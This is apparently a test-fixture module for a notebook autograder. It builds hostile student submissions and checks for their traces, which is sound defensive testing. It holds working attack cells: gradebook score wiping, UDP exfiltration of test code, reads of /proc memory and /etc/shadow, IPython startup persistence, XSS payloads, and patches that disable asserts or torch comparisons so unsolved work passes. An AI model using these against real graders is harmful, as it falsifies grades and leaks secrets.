"""Hostile and unlucky submissions of assignment 1, one for each way that was found to harm a course.

Each is made from the perfect notebook or from one with nothing solved. None of them can do anything outside of its own
run: `watch` and `traces` look for what would be left.
"""

import copy
import os
import socket
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

PORT = 49713  # where an attack sends its datagram
STARTUP = Path.home() / ".ipython" / "profile_default" / "startup" / "00-pros-attack.py"
MARK = "PROS_ATTACK"

#: Cells that are put at the end of the perfect notebook: all points stand, and nothing happens outside.
HARMLESS = {
    "attaches_the_gradebook": """
import os, sqlite3
for place in ("../../../gradebook.db", "../../gradebook.db"):
    for connect in (lambda: sqlite3.connect(":memory:"), lambda: get_ipython().history_manager.db):
        try:
            database = connect()
            database.execute(f"attach '{os.path.abspath(place)}' as book")
            database.execute("update book.grade set auto_score = 0, manual_score = 0")
            database.commit()
        except Exception as error:
            print("refused:", error)
""",
    "sends_the_tests": """
import base64, socket
secret = base64.b64encode("".join(In).encode())
print("GOT", secret.decode())
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret[:500], ("127.0.0.1", PORT))
except Exception as error:
    print("refused:", error)
""".replace("PORT", str(PORT)),
    "reads_the_parent": """
import os
for name in ("mem", "environ", "fd/0", "cwd/gradebook.db", "root/etc/shadow"):
    for process in (os.getppid(), 1):
        try:
            print("GOT", open(f"/proc/{process}/{name}", "rb").read(100))
        except Exception as error:
            print("refused:", error)
""",
    "leaves_a_startup_file": """
import os, pathlib
for home in {os.path.expanduser("~"), pathlib.Path(HOME)}:
    try:
        place = pathlib.Path(home) / ".ipython" / "profile_default" / "startup"
        place.mkdir(parents=True, exist_ok=True)
        (place / "00-pros-attack.py").write_text("raise SystemExit")
    except Exception as error:
        print("refused:", error)
""".replace("HOME", repr(str(Path.home()))),
    "writes_into_the_package": """
import prosutils.evaluation
for path in (prosutils.__file__, prosutils.evaluation.__file__):
    try:
        with open(path, "a") as file:
            file.write("\\n# MARK\\n")
    except Exception as error:
        print("refused:", error)
""".replace("MARK", MARK),
    "shows_a_script": """
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>document.title = 'taken'</script><img src=x onerror='document.title=1'>"))
display(Javascript("document.title = 'taken'"), Markdown("<script>document.title = 'taken'</script>"))
display({"image/png": "'><script>document.title = 'taken'</script>", "image/svg+xml": "<svg onload='alert(1)'/>"},
        raw=True)
""",
    "floods_the_output": 'for _ in range(50):\n    print("x" * 1_000_000)',
    "signals_the_grader": """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGINT)
except Exception as error:
    print("refused:", error)
""",
    "warns": """
import sys, torch, warnings
warnings.warn("this is no mistake")
print("nor is this", file=sys.stderr)
""",
}

#: An attack that the fence does not stop, for it is C code. It runs in a container only.
IN_C = """
import ctypes, os
library, home = ctypes.CDLL(None), HOME
library.system(f"mkdir -p {home}/.ipython/profile_default/startup".encode())
library.system(f"echo raise SystemExit > {home}/.ipython/profile_default/startup/00-pros-attack.py".encode())
library.system(b"bash -c 'echo taken > /dev/udp/127.0.0.1/PORT'")
print("the parent:", library.kill(os.getppid(), 9), library.open(f"/proc/{os.getppid()}/mem".encode(), 2))
""".replace("HOME", repr(str(Path.home()))).replace("PORT", str(PORT))

#: Cells that are put at the beginning of a notebook in which nothing is solved: the run is not to be trusted.
PATCHES = {
    "replaces_the_syntax_tree": """
import ast
class NoTests(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoTests())
""",
    "replaces_the_source": """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("assert" in line or "same(" in line for line in lines) else lines)
""",
    "replaces_the_shell": """
shell, right = get_ipython(), get_ipython().run_cell_async
async def run_cell_async(code, *arguments, **options):
    return await right("pass" if "assert" in code else code, *arguments, **options)
shell.run_cell_async = run_cell_async
""",
    "replaces_pytorch": """
import torch, torch.testing
torch.equal = torch.allclose = lambda *_, **__: True
torch.testing.assert_close = lambda *_, **__: None
""",
}


def with_cell(notebook, source, first=False):
    """A copy of a notebook with one more cell, of the student's own, at its end or at its beginning."""
    notebook = copy.deepcopy(notebook)
    notebook.cells.insert(0 if first else len(notebook.cells), new_code_cell(source.strip()))
    return notebook


def is_test(cell):
    return cell.metadata.get("nbgrader", {}).get("grade") and not cell.metadata.nbgrader.solution


def with_tags(notebook):
    notebook = copy.deepcopy(notebook)
    for number, cell in enumerate(filter(is_test, notebook.cells)):
        cell.metadata["tags"] = ["skip-execution", "", "raises-exception"] if number % 2 else "skip-execution"
    return notebook


def with_copies(notebook):
    """Every second cell of nbgrader's comes twice, with its name."""
    notebook = copy.deepcopy(notebook)
    named = [cell for cell in notebook.cells if "nbgrader" in cell.metadata]
    for cell in named[::2]:
        notebook.cells.insert(notebook.cells.index(cell), copy.deepcopy(cell))
    return notebook


def with_other_metadata(notebook):
    """Cells that say something else about themselves than what was released."""
    notebook = copy.deepcopy(notebook)
    strange = [[], "nothing", {"grade_id": 7}, {"grade_id": ["a"]}, {"schema_version": 0}, {}, None]
    for number, cell in enumerate(notebook.cells):
        if number % 5 == 0:
            cell.metadata["nbgrader"] = strange[number // 5 % len(strange)]
        elif is_test(cell):
            cell.metadata["nbgrader"] |= {
                "points": 100,
                "grade": False,
                "locked": False,
                "solution": number % 2 == 0,
                "schema_version": 1,
            }
    notebook.metadata = NotebookNode(widgets={"application/vnd.jupyter.widget-state+json": "</script>"})
    return notebook


NOTEBOOKS = {
    "cells_twice": lambda perfect, wrong: with_copies(perfect),
    "other_metadata": lambda perfect, wrong: with_other_metadata(perfect),
    "passes_the_fence": lambda perfect, wrong: with_cell(perfect, IN_C),
    "skips_the_tests": lambda perfect, wrong: with_tags(wrong),
    **{name: lambda perfect, wrong, source=source: with_cell(perfect, source) for name, source in HARMLESS.items()},
    **{
        name: lambda perfect, wrong, source=source: with_cell(wrong, source, first=True)
        for name, source in PATCHES.items()
    },
}


# ---- files -------------------------------------------------------------------------------------------------


def write(target, notebook, before=""):
    import nbformat

    target.write_text(before + nbformat.writes(notebook), encoding="utf-8")


def link_to_the_source(target, perfect):
    root = target.parents[3]
    target.symlink_to(root / "source" / target.stem / target.name)


def links_beside_the_notebook(target, perfect):
    root = target.parents[3]
    write(target, perfect)
    (target.parent / "data.db").symlink_to(root / "gradebook.db")
    (target.parent / "notes.txt").symlink_to(root / "source" / target.stem / target.name)
    (target.parent / "folder").symlink_to(root / "source")


FILES = {
    "not_a_notebook": lambda target, perfect: target.write_bytes(b"%PDF-1.7 my solution, printed"),
    "not_even_cells": lambda target, perfect: target.write_text(
        '{"cells": [1, 2], "nbformat": 4, "nbformat_minor": 5}'
    ),
    "another_name": lambda target, perfect: write(target.with_name("my solution.ipynb"), perfect),
    "byte_order_mark": lambda target, perfect: write(target, perfect, before="\ufeff"),
    "link_to_the_source": link_to_the_source,
    "links_beside_the_notebook": links_beside_the_notebook,
}


# ---- what an attack would leave ----------------------------------------------------------------------------


def watch():
    """Listens where an attack sends to, from before the runs on."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", PORT))
    listener.setblocking(False)
    return listener


def traces(listener=None):
    """What the attacks have left outside of their runs, in words; takes it away."""
    found = []
    if listener:
        try:
            found.append(f"a datagram of {len(listener.recv(1000))} bytes arrived")
        except BlockingIOError:
            pass
        listener.close()
    if STARTUP.exists():
        found.append(f"{STARTUP} was written")
        os.remove(STARTUP)
    package = Path(__file__).resolve().parents[1] / "prosutils"
    found += [f"{path} was written into" for path in package.rglob("*.py") if MARK in path.read_text(encoding="utf-8")]
    return found
